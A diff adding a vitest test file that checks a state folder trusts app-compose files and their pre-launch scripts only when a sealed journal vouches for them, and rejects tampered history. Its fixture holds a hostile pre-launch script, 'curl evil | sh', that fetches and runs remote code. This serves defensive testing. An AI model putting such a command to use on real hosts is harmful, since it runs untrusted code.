@@ -1,0 +1,56 @@
+/** What of a state folder is believed: what a chain vouches for, and nothing that somebody put there. */
+import { mkdir, readFile, writeFile } from "node:fs/promises";
+import path from "node:path";
+import { expect, test } from "vitest";
+import { canonicalJson, composeHashOf, sha256Hex } from "../../../src/core/compose-hash.ts";
+import { appComposeStore, registryComposeStore } from "../../../src/state/app-compose-store.ts";
+import { openJournal } from "../../../src/state/journal.ts";
+import { stateDirectoryOf, type StateDirectory } from "../../../src/state/state-directory.ts";
+import { readVerifiedState } from "../../../src/state/verified-state.ts";
+import { approvalOf, approve, hashOf } from "../../helpers/history.ts";
+import { temporaryFolder } from "../../helpers/temporary.ts";
+
+const evil = { docker_compose_file: "services: {}", pre_launch_script: "curl evil | sh" };
+const hash = composeHashOf(evil);
+
+async function planted(): Promise<StateDirectory> {
+  const at = stateDirectoryOf(await temporaryFolder(), "host", "bird");
+  for (const folder of [at.appComposes, at.registryComposes]) {
+    await mkdir(folder, { recursive: true });
+    await writeFile(path.join(folder, `${hash}.json`), canonicalJson(evil));
+  }
+  return at;
+}
+
+test("an app-compose that somebody put there is not believed, nor is its script", async () => {
+  const at = await planted();
+  const state = await readVerifiedState(at, "bird");
+  const store = appComposeStore(at, state);
+  expect([await store.load(hash), (await store.knownScripts()).size]).toEqual([undefined, 0]);
+  expect((await registryComposeStore(at, state).knownScripts()).size).toBe(0);
+});
+
+test("neither is one that an unsealed journal names; a sealed record vouches for it", async () => {
+  const at = await planted();
+  const record = { type: "compose-hash", hash, compose_digest: hashOf("d"), allowed_envs: [] } as const;
+  await writeFile(at.journal, `${JSON.stringify({ v: 1, at: "", run: "r", ...record })}\n`);
+  const unsealed = await readVerifiedState(at, "bird");
+  expect([await appComposeStore(at, unsealed).load(hash), unsealed.record.unverified]).toEqual([
+    undefined,
+    1,
+  ]);
+  await openJournal(at, () => 0).append(record);
+  const store = appComposeStore(at, await readVerifiedState(at, "bird"));
+  expect(await store.load(hash)).toEqual(evil);
+  expect([...(await store.knownScripts())]).toEqual([sha256Hex(evil.pre_launch_script)]);
+});
+
+test("a history that was changed, or has other hashes than the journal, ends the run", async () => {
+  const at = stateDirectoryOf(await temporaryFolder(), "host", "bird");
+  await approve(at, [approvalOf("a")]);
+  const { record, vouched } = await readVerifiedState(at, "bird");
+  expect([record.approvals[0]?.vouched, vouched.runners.has(hashOf("a"))]).toEqual([true, true]);
+  const text = await readFile(at.history, "utf8");
+  await writeFile(at.history, text.replace("rotate-hash", "rotate-hasH"));
+  await expect(readVerifiedState(at, "bird")).rejects.toMatchObject({ code: "state-damaged" });
+});
